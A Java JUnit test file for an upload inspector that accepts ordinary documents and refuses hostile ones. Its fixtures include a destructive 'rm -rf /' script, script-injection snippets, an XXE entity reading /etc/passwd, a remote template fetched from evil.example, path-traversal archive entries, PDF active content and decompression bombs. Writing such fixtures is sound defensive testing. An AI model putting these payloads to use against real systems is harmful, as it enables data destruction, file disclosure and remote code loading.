package org.fengqiao.dossier.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.Map;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.fengqiao.dossier.FileType;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

class HostileUploadTests {

    private static final long MB = 1024 * 1024;

    @TempDir
    Path folder;

    private final FileLimits limits = FileLimits.usual();

    @BeforeAll
    static void quiet() {
        ((Logger) LoggerFactory.getLogger("org.apache.pdfbox")).setLevel(Level.OFF);
    }

    @Test
    void takesWhatIsHarmless() throws IOException {
        assertAccepted(Samples.pdf(3), FileType.PDF, 3);
        assertAccepted(Samples.image("jpg", 40, 30), FileType.JPEG, 1);
        assertAccepted(Samples.image("png", 40, 30), FileType.PNG, 1);
        assertAccepted(Samples.zip(Samples.docxParts()), FileType.DOCX, 0);
    }

    /** The head that browsers write before what they record. */
    @Test
    void takesWhatABrowserRecorded() throws IOException {
        assertAccepted(HexFormat.of().parseHex("1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581021853806701ffffffffffffff"), FileType.WEBM, 0);
    }

    /** What phones write when they record a call or a memo. */
    @Test
    void takesWhatAPhoneRecorded() throws IOException {
        assertAccepted(Samples.wav(100), FileType.WAV, 0);
        assertAccepted(Samples.mp4("M4A "), FileType.M4A, 0);
        assertAccepted(Samples.mp4("isom"), FileType.MP4, 0);
        assertAccepted(Samples.mp4("qt  "), FileType.MP4, 0);
        assertAccepted(Samples.join(Samples.ascii("#!AMR\n"), new byte[32]), FileType.AMR, 0);
    }

    @Test
    void saysWhatToDoWithAPhotoFewDevicesOpen() throws IOException {
        for (var brand : new String[] {"heic", "mif1", "heix"}) {
            assertThat(refusal(Samples.mp4(brand), limits).instead()).contains("截屏");
        }
    }

    @Test
    void takesRealOfficeDocuments() throws IOException {
        var out = new java.io.ByteArrayOutputStream();
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook()) {
            workbook.createSheet("流水").createRow(0).createCell(0).setCellValue("转账");
            workbook.write(out);
        }
        assertAccepted(out.toByteArray(), FileType.XLSX, 0);
    }

    @Test
    void refusesNothingAtAll() throws IOException {
        assertRefused(new byte[0], "empty-file");
    }

    @Test
    void refusesWhatIsTooLargeAndSaysHowLargeItMayBe() throws IOException {
        var refusal = refusal(Samples.pdf(1), limits.bytes(100));

        assertThat(refusal.code()).isEqualTo("too-large");
        assertThat(refusal.why()).contains("上限 100 字节");
        assertThat(refusal.instead()).contains("压缩");
    }

    @Test
    void refusesTooManyPages() throws IOException {
        assertThat(refusal(Samples.pdf(4), limits.pages(3)).why()).contains("4 页").contains("3 页");
    }

    @Test
    void tellsTypesByContent() throws IOException {
        assertRefused(Samples.ascii("MZ this says it is a picture\0\0\0"), "wrong-type");
        assertRefused(Samples.ascii("<html><script>alert(1)</script></html>"), "wrong-type");
        assertRefused(Samples.ascii("<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"), "wrong-type");
        assertRefused(Samples.ascii("#!/bin/sh\nrm -rf /\n"), "wrong-type");
        assertRefused(Samples.zip(Map.of("a.txt", new byte[1])), "wrong-type");
        assertRefused(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1}, "old-or-locked-office");
    }

    @Test
    void refusesLockedPdfWithOrWithoutAPasswordToOpenIt() throws IOException {
        assertRefused(Samples.lockedPdf("secret"), "encrypted-pdf");
        assertRefused(Samples.lockedPdf(""), "encrypted-pdf");
    }

    @Test
    void refusesPdfThatActs() throws IOException {
        assertRefused(Samples.pdf(1, d -> d.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))), "active-content");
        assertRefused(Samples.pdf(1, d -> d.getDocumentCatalog().setOpenAction(new PDActionLaunch())), "active-content");
        assertRefused(Samples.pdf(1, d -> {
            var action = new COSDictionary();
            action.setItem(COSName.S, COSName.getPDFName("SubmitForm"));
            var annotation = new COSDictionary();
            annotation.setItem(COSName.A, action);
            var all = new COSArray();
            all.add(annotation);
            d.getPage(0).getCOSObject().setItem(COSName.ANNOTS, all);
        }), "active-content");
    }

    @Test
    void refusesPdfThatCarriesFiles() throws IOException {
        assertRefused(Samples.pdf(1, d -> {
            var file = new PDComplexFileSpecification();
            file.setFile("x.exe");
            file.setEmbeddedFile(new PDEmbeddedFile(d, new java.io.ByteArrayInputStream(new byte[10])));
            var tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("x", file));
            var names = new PDDocumentNameDictionary(d.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            d.getDocumentCatalog().setNames(names);
        }), "active-content");
    }

    @Test
    void refusesPdfBombsBeforeParsing() throws IOException {
        assertRefused(Samples.pdfBomb(200, "/FlateDecode"), "decompression-bomb");
        assertRefused(Samples.pdfBomb(1, "[/FlateDecode /FlateDecode]"), "decompression-bomb");
    }

    @Test
    void refusesBrokenFiles() throws IOException {
        var pdf = Samples.pdf(1);
        assertRefused(java.util.Arrays.copyOf(pdf, 30), "unreadable");
        assertRefused(java.util.Arrays.copyOf(Samples.image("png", 40, 30), 12), "unreadable");
        assertRefused(java.util.Arrays.copyOf(Samples.zip(Samples.docxParts()), 80), "unreadable");
    }

    @Test
    void refusesPixelBombs() throws IOException {
        var refusal = refusal(Samples.claimedPng(50_000, 50_000), limits);

        assertThat(refusal.code()).isEqualTo("too-many-pixels");
        assertThat(refusal.why()).contains("50000×50000").contains("12000 万像素");
    }

    @Test
    void refusesFilesThatAreTwoThings() throws IOException {
        var zip = Samples.zip(Samples.docxParts());
        assertRefused(Samples.join(Samples.image("jpg", 40, 30), zip), "hidden-content");
        assertRefused(Samples.join(Samples.pdf(1), zip), "hidden-content");
        assertRefused(Samples.join(Samples.image("png", 40, 30), Samples.ascii("<script>alert(1)</script>")), "hidden-content");
        assertRefused(Samples.join(Samples.image("jpg", 40, 30), Samples.pdf(1)), "hidden-content");
    }

    @Test
    void refusesZipBombs() throws IOException {
        assertRefused(Samples.docxWith("word/media/image1.bmp", new byte[(int) (20 * MB)]), "decompression-bomb");
    }

    @Test
    void refusesArchivePathsThatEscape() throws IOException {
        assertRefused(Samples.docxWith("../../etc/cron.d/x", new byte[1]), "unsafe-archive");
        assertRefused(Samples.docxWith("/etc/passwd", new byte[1]), "unsafe-archive");
        assertRefused(Samples.docxWith("C:\\x.dll", new byte[1]), "unsafe-archive");
        assertRefused(Samples.docxWith("WORD/Document.xml", new byte[1]), "unsafe-archive");
    }

    @Test
    void refusesOfficeDocumentsThatActOrCarry() throws IOException {
        assertRefused(Samples.docxWith("word/vbaProject.bin", new byte[1]), "active-content");
        assertRefused(Samples.docxWith("word/embeddings/oleObject1.bin", new byte[1]), "active-content");
        assertRefused(Samples.docxWith("word/activeX/activeX1.xml", new byte[1]), "active-content");
        assertRefused(Samples.docxWith("word/settings.xml", Samples.ascii("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>")), "active-content");
        assertRefused(
                Samples.docxWith(
                        "word/_rels/settings.xml.rels",
                        Samples.ascii("<Relationships><Relationship Id=\"1\" Type=\"http://x/relationships/attachedTemplate\""
                                + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")),
                "active-content");
    }

    @Test
    void takesLinksAReaderWouldHaveToClick() throws IOException {
        assertAccepted(
                Samples.docxWith(
                        "word/_rels/document.xml.rels",
                        Samples.ascii("<Relationships><Relationship Id=\"1\" Type=\"http://x/relationships/hyperlink\""
                                + " Target=\"http://court.example/\" TargetMode=\"External\"/></Relationships>")),
                FileType.DOCX,
                0);
    }

    @Test
    void survivesRandomDamage() throws IOException {
        var random = new java.util.Random(7);
        for (var sample : java.util.List.of(Samples.pdf(2), Samples.image("jpg", 60, 60), Samples.image("png", 60, 60), Samples.zip(Samples.docxParts()))) {
            for (var round = 0; round < 60; round++) {
                var damaged = sample.clone();
                for (var hit = 0; hit < 8; hit++) {
                    damaged[random.nextInt(damaged.length)] = (byte) random.nextInt(256);
                }
                assertThat(inspect(damaged, limits)).isNotNull();
            }
        }
    }

    private void assertAccepted(byte[] content, FileType type, int pages) throws IOException {
        assertThat(inspect(content, limits)).isEqualTo(new Inspection.Accepted(type, pages));
    }

    private void assertRefused(byte[] content, String code) throws IOException {
        var refusal = refusal(content, limits);
        assertThat(refusal.code()).isEqualTo(code);
        assertThat(refusal.why()).isNotBlank().doesNotContainPattern("[a-z]+/[a-z]");
        assertThat(refusal.instead()).isNotBlank();
    }

    private org.fengqiao.dossier.FileRefusal refusal(byte[] content, FileLimits limits) throws IOException {
        var seen = inspect(content, limits);
        assertThat(seen).isInstanceOf(Inspection.Refused.class);
        return ((Inspection.Refused) seen).refusal();
    }

    private Inspection inspect(byte[] content, FileLimits limits) throws IOException {
        var file = Files.write(folder.resolve("file"), content);
        return new Inspector(limits).inspect(file);
    }
}
